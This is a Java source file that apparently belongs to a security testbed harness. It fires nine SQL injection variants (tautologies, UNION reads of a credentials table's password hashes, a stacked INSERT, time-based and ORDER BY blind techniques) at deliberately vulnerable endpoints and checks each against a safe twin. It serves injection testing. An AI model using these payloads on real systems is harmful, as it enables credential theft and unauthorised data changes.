package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.Properties;
import java.util.UUID;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * SQL injection (CWE-89) into the H2 queries of {@code /sql/user}, {@code /sql/user-by-id} and
 * {@code /sql/users}. The evidence is data the query must not return: other users' rows, the
 * inactive user carol, a password hash of the {@code credentials} table, a row the payload inserted,
 * an answer as slow as the injected SLEEP, an order chosen by a condition on another table.
 */
public final class SqlInjectionAttack extends InjectionAttack {

    /** Seconds the time-based variant asks the database to sleep. */
    static final int SLEEP_SECONDS = 2;

    public enum Variant implements InjectionVariant {
        /** A quote, then a condition that is always true: every active user instead of none. */
        TAUTOLOGY("/sql/user", "nobody' OR '1'='1"),
        /** A second SELECT glued on with UNION, reading the credentials table. */
        UNION("/sql/user", "nobody' UNION SELECT 0, username, password_hash, 'x' FROM credentials --"),
        /** A comment that cuts off the rest of the statement, here {@code AND active = TRUE}. */
        COMMENT("/sql/user", "carol'--"),
        /** A second statement after a semicolon, inserting a row. */
        STACKED("/sql/user", "nobody'; INSERT INTO users (name, email, city, active) VALUES ('<marker>', 'm@example.com', 'x', TRUE); --"),
        /** Blind, time-based: the answer waits for SLEEP when the condition holds. */
        TIME_BASED("/sql/user", "alice' AND SLEEP(" + SLEEP_SECONDS + ") = 0 --"),
        /** A numeric parameter needs no quote: {@code 0 OR 1=1}. */
        NUMERIC_TAUTOLOGY("/sql/user-by-id", "0 OR 1=1"),
        /** UNION through the numeric parameter. */
        NUMERIC_UNION("/sql/user-by-id", "0 UNION SELECT 0, username, password_hash, 'x' FROM credentials --"),
        /** ORDER BY an expression whose conversion error prints a subquery's result. */
        ORDER_BY_ERROR("/sql/users", "CAST((SELECT password_hash FROM credentials WHERE username = 'admin') AS INT)"),
        /** Blind, boolean: ORDER BY a CASE on another table; the row order answers the question. */
        ORDER_BY_BOOLEAN("/sql/users", "CASE WHEN (SELECT COUNT(*) FROM credentials WHERE username = 'admin') = <1|0> THEN name ELSE city END");

        private final String endpoint;
        private final String payload;

        Variant(String endpoint, String payload) {
            this.endpoint = endpoint;
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return endpoint;
        }

        @Override
        public String payload() {
            return payload;
        }
    }

    @Override
    public Category category() {
        return Category.SQL;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String path = twin.path(variant.endpoint());
        String param = variant.endpoint().equals("/sql/user") ? "name" : variant.endpoint().equals("/sql/users") ? "order" : "id";
        Properties secrets = secrets(target);
        switch (variant) {
            case TAUTOLOGY, NUMERIC_TAUTOLOGY -> {
                HttpResponse<String> response = get(target, path, param, variant.payload());
                int rows = count(response.body());
                return result(variant, twin, rows >= 2, response.statusCode(), rows >= 2
                        ? rows + " users returned for a name that matches none"
                        : "no rows leaked: " + abbreviate(response.body()));
            }
            case UNION, NUMERIC_UNION, ORDER_BY_ERROR -> {
                HttpResponse<String> response = get(target, path, param, variant.payload());
                String leaked = leakedSecret(secrets, "sql.password_hash.", response.body());
                return result(variant, twin, leaked != null, response.statusCode(), leaked != null
                        ? "the response shows " + leaked + " from the credentials table"
                        : "no password hash in: " + abbreviate(response.body()));
            }
            case COMMENT -> {
                HttpResponse<String> response = get(target, path, param, variant.payload());
                boolean inactive = response.body().contains("carol@example.com");
                return result(variant, twin, inactive, response.statusCode(), inactive
                        ? "the inactive user carol was returned: the active condition was commented out"
                        : "carol not shown: " + abbreviate(response.body()));
            }
            case STACKED -> {
                String marker = "stacked-" + UUID.randomUUID();
                HttpResponse<String> response = get(target, path, param, variant.payload().replace("<marker>", marker));
                HttpResponse<String> check = get(target, "/safe/sql/user", "name", marker);
                boolean inserted = count(check.body()) >= 1;
                return result(variant, twin, inserted, response.statusCode(), inserted
                        ? "the injected INSERT ran: user " + marker + " now exists"
                        : "no user " + marker + " afterwards (" + abbreviate(response.body()) + ")");
            }
            case TIME_BASED -> {
                long baseline = timed(target, path, param, "alice");
                long start = System.nanoTime();
                HttpResponse<String> response = get(target, path, param, variant.payload());
                long millis = (System.nanoTime() - start) / 1_000_000;
                boolean slept = millis >= SLEEP_SECONDS * 900L && baseline < millis - SLEEP_SECONDS * 700L;
                return result(variant, twin, slept, response.statusCode(), (slept
                        ? "the answer took " + millis + " ms against " + baseline + " ms without the payload: SLEEP ran"
                        : "answered in " + millis + " ms (baseline " + baseline + " ms): " + abbreviate(response.body())));
            }
            case ORDER_BY_BOOLEAN -> {
                HttpResponse<String> whenTrue = get(target, path, param, variant.payload().replace("<1|0>", "1"));
                HttpResponse<String> whenFalse = get(target, path, param, variant.payload().replace("<1|0>", "0"));
                HttpResponse<String> byName = get(target, "/safe/sql/users", "order", "name");
                HttpResponse<String> byCity = get(target, "/safe/sql/users", "order", "city");
                boolean oracle = whenTrue.body().equals(byName.body()) && whenFalse.body().equals(byCity.body())
                        && !byName.body().equals(byCity.body());
                return result(variant, twin, oracle, whenTrue.statusCode(), oracle
                        ? "rows came sorted by name when the condition on credentials held and by city when it did not"
                        : "the order did not follow the condition: " + abbreviate(whenTrue.body()));
            }
            default -> throw new IllegalStateException("unhandled variant " + variant);
        }
    }

    private static long timed(Testbed target, String path, String param, String value) throws Exception {
        long start = System.nanoTime();
        get(target, path, param, value);
        return (System.nanoTime() - start) / 1_000_000;
    }
}
